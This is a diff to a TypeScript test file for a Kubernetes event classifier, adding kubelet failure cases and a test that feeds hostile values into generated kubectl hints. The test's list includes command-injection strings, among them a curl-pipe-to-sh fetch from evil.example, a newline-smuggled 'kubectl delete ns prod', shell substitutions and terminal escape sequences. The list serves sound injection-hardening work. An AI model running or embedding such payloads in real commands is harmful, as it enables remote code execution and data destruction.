@@ -2,6 +2,8 @@ import { describe, it } from 'node:test';
 import assert from 'node:assert/strict';
 import { CATALOGUE, classify, explainEvent } from './catalogue.js';
 import { FAILURE_KIND_IDS } from './kind.js';
+import { stepHints } from './steps.js';
+import { simpleCommandWords } from '../../test/support/posix-command.js';
 import { testEvent } from '../timeline/test-events.js';
 
 interface Case {
@@ -50,6 +52,9 @@ const CASES: Case[] = [
   { name: 'mount secret missing', reason: 'FailedMount', message: 'MountVolume.SetUp failed for volume "creds" : secret "db-creds" not found', want: 'mount-missing-source', facts: { volume: 'creds', sourceKind: 'Secret', source: 'db-creds' } },
   { name: 'mount configmap missing', reason: 'FailedMount', message: 'MountVolume.SetUp failed for volume "conf" : configmap "app-conf" not found', want: 'mount-missing-source', facts: { sourceKind: 'ConfigMap', source: 'app-conf' } },
   { name: 'mount cache sync is noise', reason: 'FailedMount', message: 'MountVolume.SetUp failed for volume "conf" : failed to sync configmap cache: timed out waiting for the condition', want: 'other' },
+  // kubelet.go's aggregate of a pod's mounts timing out names no cause: its reason and message only.
+  { name: 'mount timeout aggregate', reason: 'FailedMount', message: 'Unable to attach or mount volumes: unmounted volumes=[data], unattached volumes=[data kube-api-access-x2x7k], failed to process volumes=[]: timed out waiting for the condition', want: 'other' },
+  { name: 'cloud attach failure is no multi-attach', reason: 'FailedAttachVolume', message: 'AttachVolume.Attach failed for volume "pvc-1234" : rpc error: code = Internal desc = volume is in use', want: 'other' },
   // kubelet_pods.go through kuberuntime_container.go's `Error: %v`.
   { name: 'configmap missing', reason: 'Failed', fieldPath: 'spec.containers{app}', message: 'Error: configmap "app-env" not found', want: 'config-missing', facts: { sourceKind: 'ConfigMap', source: 'app-env', container: 'app' } },
   { name: 'secret missing', reason: 'Failed', message: 'Error: secret "api-key" not found', want: 'config-missing', facts: { sourceKind: 'Secret', source: 'api-key' } },
@@ -62,10 +67,16 @@ const CASES: Case[] = [
   { name: 'pull access denied (containerd)', reason: 'Failed', message: 'Failed to pull image "acme/private:1": failed to pull and unpack image "docker.io/acme/private:1": failed to resolve reference "docker.io/acme/private:1": pull access denied, repository does not exist or may require authorization: server message: insufficient_scope: authorization failed', want: 'image-pull-denied', facts: { image: 'acme/private:1' } },
   { name: 'pull access denied (docker)', reason: 'Failed', message: 'Failed to pull image "acme/private:1": rpc error: code = Unknown desc = Error response from daemon: pull access denied for acme/private, repository does not exist or may require \'docker login\': denied: requested access to the resource is denied', want: 'image-pull-denied' },
   { name: 'anonymous token 401', reason: 'Failed', message: 'Failed to pull image "ghcr.io/acme/x:1": failed to pull and unpack image "ghcr.io/acme/x:1": failed to resolve reference "ghcr.io/acme/x:1": failed to authorize: failed to fetch anonymous token: unexpected status: 401 Unauthorized', want: 'image-pull-denied' },
+  { name: 'anonymous token 403', reason: 'Failed', message: 'Failed to pull image "registry.example/team/x:1": failed to pull and unpack image "registry.example/team/x:1": failed to resolve reference "registry.example/team/x:1": failed to authorize: failed to fetch anonymous token: unexpected status: 403 Forbidden', want: 'image-pull-denied' },
   { name: 'no such host', reason: 'Failed', host: 'node-a', message: 'Failed to pull image "registry.internal/app:1": failed to pull and unpack image "registry.internal/app:1": failed to resolve reference "registry.internal/app:1": failed to do request: Head "https://registry.internal/v2/app/manifests/1": dial tcp: lookup registry.internal on 10.0.0.10:53: no such host', want: 'image-registry-unreachable', facts: { registryHost: 'registry.internal', node: 'node-a' } },
   { name: 'rate limited', reason: 'Failed', message: 'Failed to pull image "nginx": rpc error: code = Unknown desc = failed to pull and unpack image "docker.io/library/nginx:latest": failed to copy: httpReadSeeker: failed open: unexpected status code https://registry-1.docker.io/v2/library/nginx/manifests/sha256:abc: 429 Too Many Requests - Server message: toomanyrequests: You have reached your pull rate limit.', want: 'image-registry-unreachable' },
+  { name: 'registry i/o timeout', reason: 'Failed', message: 'Failed to pull image "registry.internal/app:1": failed to pull and unpack image "registry.internal/app:1": failed to resolve reference "registry.internal/app:1": failed to do request: Head "https://registry.internal/v2/app/manifests/1": dial tcp 10.0.0.9:443: i/o timeout', want: 'image-registry-unreachable', facts: { registryHost: 'registry.internal' } },
+  // image_manager.go evalCRIPullErr (1.30+): the runtime's RegistryUnavailable, and its signature check, in the kubelet's words.
+  { name: 'registry unavailable (evalCRIPullErr)', reason: 'Failed', message: 'Failed to pull image "registry.internal/app:1": image pull failed for registry.internal/app:1 because the registry is unavailable: connection refused', want: 'image-registry-unreachable', facts: { image: 'registry.internal/app:1' } },
+  { name: 'signature validation failed (evalCRIPullErr): the kubelet\'s words, no cause added', reason: 'Failed', message: 'Failed to pull image "registry.internal/app:1": image pull failed for registry.internal/app:1 because the signature validation failed: no signature', want: 'image-pull-backoff', facts: { error: 'image pull failed for registry.internal/app:1 because the signature validation failed: no signature' } },
   { name: 'never pull', reason: 'ErrImageNeverPull', message: 'Container image "app:dev" is not present with pull policy of Never', want: 'image-invalid', facts: { image: 'app:dev', problem: 'never-pull' } },
   { name: 'invalid reference', reason: 'InspectFailed', message: 'Failed to apply default image tag "App:Latest": couldn\'t parse image reference "App:Latest": invalid reference format: repository name must be lowercase', want: 'image-invalid', facts: { image: 'App:Latest' } },
+  { name: 'inspect failed is the runtime, not the reference', reason: 'InspectFailed', message: 'Failed to inspect image "app:1": rpc error: code = Unavailable desc = connection error', want: 'image-invalid', facts: { image: 'app:1', problem: 'inspect', error: 'rpc error: code = Unavailable desc = connection error' } },
   { name: 'back-off pulling (Normal)', reason: 'BackOff', type: 'Normal', message: 'Back-off pulling image "nginx:1.99"', want: 'image-pull-backoff', facts: { image: 'nginx:1.99' } },
   { name: 'Error: ErrImagePull', reason: 'Failed', message: 'Error: ErrImagePull', want: 'image-pull-backoff' },
   { name: 'Error: ImagePullBackOff', reason: 'Failed', message: 'Error: ImagePullBackOff', want: 'image-pull-backoff' },
@@ -97,20 +108,28 @@ const CASES: Case[] = [
   { name: 'evicted on condition', reason: 'Evicted', message: 'The node had condition: [DiskPressure]. ', want: 'evicted-pressure', facts: { condition: 'DiskPressure' } },
   { name: 'threshold met on node', kind: 'Node', object: 'node-a', reason: 'EvictionThresholdMet', message: 'Attempting to reclaim ephemeral-storage', want: 'evicted-pressure', facts: { resource: 'ephemeral-storage', node: 'node-a' } },
   { name: 'node has disk pressure (Normal)', kind: 'Node', object: 'node-a', reason: 'NodeHasDiskPressure', type: 'Normal', message: 'Node node-a status is now: NodeHasDiskPressure', want: 'evicted-pressure', facts: { condition: 'DiskPressure' } },
+  { name: 'node has insufficient memory (Normal)', kind: 'Node', object: 'node-a', reason: 'NodeHasInsufficientMemory', type: 'Normal', message: 'Node node-a status is now: NodeHasInsufficientMemory', want: 'evicted-pressure', facts: { condition: 'InsufficientMemory', node: 'node-a' } },
+  { name: 'node has insufficient PID (Normal)', kind: 'Node', object: 'node-a', reason: 'NodeHasInsufficientPID', type: 'Normal', message: 'Node node-a status is now: NodeHasInsufficientPID', want: 'evicted-pressure', facts: { condition: 'InsufficientPID' } },
   { name: 'container ephemeral limit', reason: 'Evicted', message: 'Container app exceeded its local ephemeral storage limit "1Gi". ', want: 'evicted-ephemeral-storage', facts: { container: 'app', limit: '1Gi', scope: 'container' } },
   { name: 'pod ephemeral limit', reason: 'Evicted', message: 'Pod ephemeral local storage usage exceeds the total limit of containers 2Gi. ', want: 'evicted-ephemeral-storage', facts: { limit: '2Gi', scope: 'pod' } },
   { name: 'emptyDir limit', reason: 'Evicted', message: 'Usage of EmptyDir volume "scratch" exceeds the limit "500Mi". ', want: 'evicted-ephemeral-storage', facts: { volume: 'scratch', limit: '500Mi' } },
   { name: 'system OOM', kind: 'Node', object: 'node-a', reason: 'SystemOOM', message: 'System OOM encountered, victim process: java, pid: 4242', want: 'oom-node', facts: { process: 'java', pid: '4242' } },
   { name: 'NPD OOMKilling', kind: 'Node', object: 'node-a', reason: 'OOMKilling', message: 'Memory cgroup out of memory: Killed process 4242 (java) total-vm:1234kB, anon-rss:1000kB, file-rss:0kB, shmem-rss:0kB', want: 'oom-node', facts: { process: 'java', cgroup: 'container' } },
+  { name: 'NPD OOMKilling, the node out of memory', kind: 'Node', object: 'node-a', reason: 'OOMKilling', message: 'Out of memory: Killed process 4242 (java) total-vm:1234kB, anon-rss:1000kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:100kB oom_score_adj:0', want: 'oom-node', facts: { process: 'java', pid: '4242' } },
+  { name: 'NPD OOMKilling, older kernels', kind: 'Node', object: 'node-a', reason: 'OOMKilling', message: 'Kill process 4242 (java) score 900 or sacrifice child\nKilled process 4242 (java) total-vm:1234kB, anon-rss:1000kB, file-rss:0kB', want: 'oom-node', facts: { process: 'java', pid: '4242' } },
   { name: 'node not ready (Normal, on the node)', kind: 'Node', object: 'node-a', reason: 'NodeNotReady', type: 'Normal', component: 'node-controller', message: 'Node node-a status is now: NodeNotReady', want: 'node-not-ready', facts: { node: 'node-a' } },
   { name: 'node not ready on a pod', reason: 'NodeNotReady', component: 'node-controller', message: 'Node is not ready', want: 'node-not-ready' },
   { name: 'taint manager eviction (Normal)', reason: 'TaintManagerEviction', type: 'Normal', component: 'taint-eviction-controller', message: 'Marking for deletion Pod shop/web-1', want: 'node-not-ready', facts: { evicted: 'true' } },
   { name: 'image GC failed', kind: 'Node', object: 'node-a', reason: 'ImageGCFailed', message: 'failed to garbage collect required amount of images. Wanted to free 5368709120 bytes, but freed 0 bytes', want: 'node-disk' },
   { name: 'free disk space failed', kind: 'Node', object: 'node-a', reason: 'FreeDiskSpaceFailed', message: 'failed to garbage collect required amount of images. Attempted to free 1 bytes, but only found 0 bytes eligible to free.', want: 'node-disk' },
+  { name: 'container GC failed (runtime down)', kind: 'Node', object: 'node-a', reason: 'ContainerGCFailed', message: 'rpc error: code = Unknown desc = Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?', want: 'node-disk' },
+  { name: 'invalid disk capacity', kind: 'Node', object: 'node-a', reason: 'InvalidDiskCapacity', message: 'invalid capacity 0 on image filesystem', want: 'node-disk' },
   // Controllers' FailedCreate.
-  { name: 'quota exceeded (ReplicaSet)', kind: 'ReplicaSet', object: 'web-7d4b9c8f5', reason: 'FailedCreate', component: 'replicaset-controller', message: 'Error creating: pods "web-7d4b9c8f5-x2x7k" is forbidden: exceeded quota: compute-resources, requested: limits.memory=2Gi, used: limits.memory=7Gi, limited: limits.memory=8Gi', want: 'create-forbidden-quota', facts: { quota: 'compute-resources', requested: 'limits.memory=2Gi', used: 'limits.memory=7Gi', limited: 'limits.memory=8Gi', resources: 'limits.memory' } },
+  { name: 'quota exceeded (ReplicaSet)', kind: 'ReplicaSet', object: 'web-7d4b9c8f5', reason: 'FailedCreate', component: 'replicaset-controller', message: 'Error creating: pods "web-7d4b9c8f5-x2x7k" is forbidden: exceeded quota: compute-resources, requested: limits.memory=2Gi, used: limits.memory=7Gi, limited: limits.memory=8Gi', want: 'create-forbidden-quota', facts: { quota: 'compute-resources', requested: 'limits.memory=2Gi', used: 'limits.memory=7Gi', limited: 'limits.memory=8Gi', resources: 'limits.memory', creates: 'pods' } },
   { name: 'quota must specify', kind: 'ReplicaSet', object: 'web-7d4b9c8f5', reason: 'FailedCreate', message: 'Error creating: pods "web-7d4b9c8f5-abcde" is forbidden: failed quota: compute-resources: must specify limits.cpu for: app; limits.memory for: app', want: 'create-forbidden-quota', facts: { quota: 'compute-resources', problem: 'unspecified' } },
   { name: 'quota from StatefulSet', kind: 'StatefulSet', object: 'db', reason: 'FailedCreate', message: 'create Pod db-0 in StatefulSet db failed error: pods "db-0" is forbidden: exceeded quota: pods, requested: pods=1, used: pods=10, limited: pods=10', want: 'create-forbidden-quota', facts: { quota: 'pods' } },
+  { name: 'quota refusing a StatefulSet\'s claim', kind: 'StatefulSet', object: 'db', reason: 'FailedCreate', message: 'create Claim data-db-0 for Pod db-0 in StatefulSet db failed error: persistentvolumeclaims "data-db-0" is forbidden: exceeded quota: storage, requested: requests.storage=10Gi, used: requests.storage=95Gi, limited: requests.storage=100Gi', want: 'create-forbidden-quota', facts: { quota: 'storage', resources: 'requests.storage', creates: 'PersistentVolumeClaims' } },
+  { name: 'quota refusing a CronJob\'s Job', kind: 'CronJob', object: 'nightly', reason: 'FailedCreate', component: 'cronjob-controller', message: 'Error creating job: jobs.batch "nightly-29000000" is forbidden: exceeded quota: jobs, requested: count/jobs.batch=1, used: count/jobs.batch=5, limited: count/jobs.batch=5', want: 'create-forbidden-quota', facts: { quota: 'jobs', creates: 'Jobs' } },
   { name: 'service account missing (Job)', kind: 'Job', object: 'migrate', reason: 'FailedCreate', component: 'job-controller', message: 'Error creating: pods "migrate-" is forbidden: error looking up service account shop/migrator: serviceaccount "migrator" not found', want: 'create-forbidden-serviceaccount', facts: { serviceAccount: 'migrator' } },
   { name: 'PodSecurity restricted', kind: 'ReplicaSet', object: 'web-7d4b9c8f5', reason: 'FailedCreate', message: 'Error creating: pods "web-7d4b9c8f5-x2x7k" is forbidden: violates PodSecurity "restricted:latest": allowPrivilegeEscalation != false (container "app" must set securityContext.allowPrivilegeEscalation=false), runAsNonRoot != true (pod or container "app" must set securityContext.runAsNonRoot=true)', want: 'create-forbidden-admission', facts: { level: 'restricted:latest', problem: 'pod-security' } },
   { name: 'webhook denied', kind: 'ReplicaSet', object: 'web-7d4b9c8f5', reason: 'FailedCreate', message: 'Error creating: admission webhook "validate.kyverno.svc" denied the request: image tag latest is not allowed', want: 'create-forbidden-admission', facts: { webhook: 'validate.kyverno.svc', detail: 'image tag latest is not allowed' } },
@@ -186,4 +205,29 @@ describe('explainEvent', () => {
     { name: 'a Normal event that shows no failure: nothing', event: { name: 'd', object: 'web-1', reason: 'Started', message: 'Started container app', first: 0 }, want: undefined },
   ];
   for (const c of cases) it(c.name, () => assert.equal(explainEvent(testEvent(c.event)), c.want));
+});
+
+describe('every kind with hostile facts', () => {
+  /** ENUMERATED facts are the catalogue's own words (a matched alternative) or digits a pattern matched, never free event text: a sentence may say them bare. */
+  const ENUMERATED = new Set(['problem', 'scope', 'sourceKind', 'probe', 'creates', 'cgroup', 'evicted', 'nodes']);
+  const HOSTILE = ['node-1;curl -fsSL https://evil.example/x|sh;#', "it's \"quoted\"", 'web\nkubectl delete ns prod', '$(touch /tmp/pwned) `id`', 'w\u001b]52;c;aGk=\u0007eb', 'web\u202eexe.sh\u200b'];
+  const CONTROL = /[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;
+  for (const c of CASES) {
+    const m = classify(eventOf(c));
+    if (m === undefined) continue;
+    it(`${m.kind.id}: ${c.name}`, () => {
+      for (const v of HOSTILE) {
+        const facts: Record<string, string> = Object.fromEntries(Object.entries(m.facts).map(([k, x]) => [k, ENUMERATED.has(k) ? x : v]));
+        const cause = m.kind.cause(facts);
+        assert.doesNotMatch(cause, CONTROL, JSON.stringify(cause));
+        for (const h of stepHints(m.kind.steps(facts))) {
+          assert.doesNotMatch(h.command, CONTROL, JSON.stringify(h.command));
+          assert.doesNotMatch(h.why, CONTROL, JSON.stringify(h.why));
+          const words = simpleCommandWords(h.command);
+          assert.equal(words[0], 'kubectl', h.command);
+          assert.ok(!words.some((w) => w.includes(v)), `${JSON.stringify(v)} reached ${h.command}`);
+        }
+      }
+    });
+  }
 });
